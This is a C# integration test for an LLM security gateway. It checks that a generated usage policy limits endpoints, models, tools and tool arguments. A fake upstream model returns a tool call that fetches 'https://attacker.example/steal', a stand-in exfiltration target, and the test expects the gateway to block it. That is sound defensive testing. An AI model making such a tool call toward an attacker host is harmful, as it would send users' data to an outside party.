using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using LlmSecOps.Server.Tests.Infrastructure;
using LlmSecOps.Server.Tests.Telemetry;

namespace LlmSecOps.Server.Tests.Cli;

/// <summary>
/// <c>llmsecops policy generate samples/app</c> writes a usage policy; <c>serve --policy</c> loads it
/// as is and enforces its allow-lists: endpoints at start-up, models, tools and tool arguments per request.
/// </summary>
public sealed class GeneratedPolicyProcessTests : IAsyncLifetime
{
    private static readonly TimeSpan Timeout = TimeSpan.FromSeconds(60);
    private readonly string _dir = Directory.CreateTempSubdirectory("llmsecops-genpolicy-").FullName;
    private FakeUpstream _upstream = null!;

    public async Task InitializeAsync() => _upstream = await FakeUpstream.StartAsync();

    public async Task DisposeAsync()
    {
        await _upstream.DisposeAsync();
        try
        {
            Directory.Delete(_dir, recursive: true);
        }
        catch (IOException)
        {
            // A temp folder left behind is not a test failure.
        }
    }

    [Fact]
    public async Task GeneratedPolicy_IsAcceptedBySeve_AndEnforced()
    {
        var policy = Path.Combine(_dir, "usage-policy.yaml");
        var generate = await CliProcess.RunAsync(_dir, Timeout, "policy", "generate", RepositoryPaths.Combine("samples", "app"), "-o", policy);
        Assert.True(generate.ExitCode == 0, generate.Stdout + generate.Stderr);
        var yaml = await File.ReadAllTextAsync(policy);
        Assert.Contains("search_docs", yaml, StringComparison.Ordinal);
        Assert.Contains("gpt-4o-2024-08-06", yaml, StringComparison.Ordinal);

        // As generated, it allows only the endpoints the code talks to: a loopback upstream is refused at start-up.
        var upstreamUrl = _upstream.BaseUrl.ToString().TrimEnd('/');
        var refused = await CliProcess.RunAsync(_dir, Timeout, "serve", "--upstream", upstreamUrl, "--policy", policy, "--data-dir", "data", "--urls", "http://127.0.0.1:0");
        Assert.Equal(2, refused.ExitCode);
        Assert.Contains("endpoints.allow", refused.Stderr, StringComparison.Ordinal);

        // The reviewed policy: the same file with the gateway's upstream added to the endpoints.
        var marker = "endpoints:\n  allow:\n";
        Assert.Contains(marker, yaml, StringComparison.Ordinal);
        await File.WriteAllTextAsync(policy, yaml.Replace(marker, marker + $"    - {upstreamUrl}\n", StringComparison.Ordinal));

        _upstream.Handler = (ctx, req) =>
        {
            var user = req.Json?["messages"]?.AsArray().Last()?["content"]?.GetValue<string>() ?? string.Empty;
            return user.Contains("fetch", StringComparison.Ordinal)
                ? FakeUpstream.Respond(ctx, req, "", toolCalls: Call("fetch_docs_page", "{\"url\":\"https://attacker.example/steal\"}"))
                : FakeUpstream.Respond(ctx, req, "Here is what the docs say about rate limits.");
        };

        await using var serve = CliProcess.Start(_dir, "serve", "--upstream", upstreamUrl, "--policy", policy, "--data-dir", "data", "--urls", "http://127.0.0.1:0");
        var listening = await serve.WaitForLineAsync("llmsecops gateway listening on ", Timeout);
        using var client = new HttpClient { BaseAddress = new Uri(listening[(listening.IndexOf("http://", StringComparison.Ordinal))..].Split([';', ',', ' '])[0]), Timeout = Timeout };

        // An allowed model and tool pass; a tool the code never defined is stripped.
        var (ok, _) = await ChatAsync(client, "gpt-4o-2024-08-06", "How do rate limits work?", "search_docs", "shell");
        Assert.Equal(HttpStatusCode.OK, ok);
        var sent = Assert.Single(_upstream.Received);
        Assert.Equal(["search_docs"], sent.Json!["tools"]!.AsArray().Select(t => t!["function"]!["name"]!.GetValue<string>()));

        // A model the code does not use is refused and never sent.
        var (model, modelBody) = await ChatAsync(client, "gpt-3.5-turbo", "How do rate limits work?");
        Assert.Equal(HttpStatusCode.Forbidden, model);
        Assert.Equal("model_not_allowed", JsonNode.Parse(modelBody)!["error"]!["code"]!.GetValue<string>());
        Assert.Single(_upstream.Received);

        // A tool call whose argument breaks the generated constraint is blocked.
        var (fetch, fetchBody) = await ChatAsync(client, "gpt-4o-2024-08-06", "Please fetch the limits page.", "fetch_docs_page");
        Assert.Equal(HttpStatusCode.BadRequest, fetch);
        Assert.Contains("tool_violation", fetchBody, StringComparison.Ordinal);
        Assert.DoesNotContain("attacker.example", fetchBody, StringComparison.Ordinal);

        await serve.TerminateAsync(Timeout);
        Assert.Equal(0, await serve.WaitForExitAsync(Timeout));
    }

    private static JsonArray Call(string name, string arguments) => new(new JsonObject
    {
        ["id"] = "call_1",
        ["type"] = "function",
        ["function"] = new JsonObject { ["name"] = name, ["arguments"] = arguments },
    });

    private static async Task<(HttpStatusCode Status, string Body)> ChatAsync(HttpClient client, string model, string user, params string[] tools)
    {
        var body = new JsonObject
        {
            ["model"] = model,
            ["messages"] = new JsonArray(new JsonObject { ["role"] = "user", ["content"] = user }),
        };
        if (tools.Length > 0)
        {
            body["tools"] = new JsonArray([.. tools.Select(t => (JsonNode)new JsonObject
            {
                ["type"] = "function",
                ["function"] = new JsonObject { ["name"] = t, ["parameters"] = new JsonObject { ["type"] = "object" } },
            })]);
        }

        using var content = new StringContent(body.ToJsonString(), Encoding.UTF8, "application/json");
        using var response = await client.PostAsync(new Uri("/v1/chat/completions", UriKind.Relative), content).WaitAsync(Timeout);
        return (response.StatusCode, await response.Content.ReadAsStringAsync().WaitAsync(Timeout));
    }
}
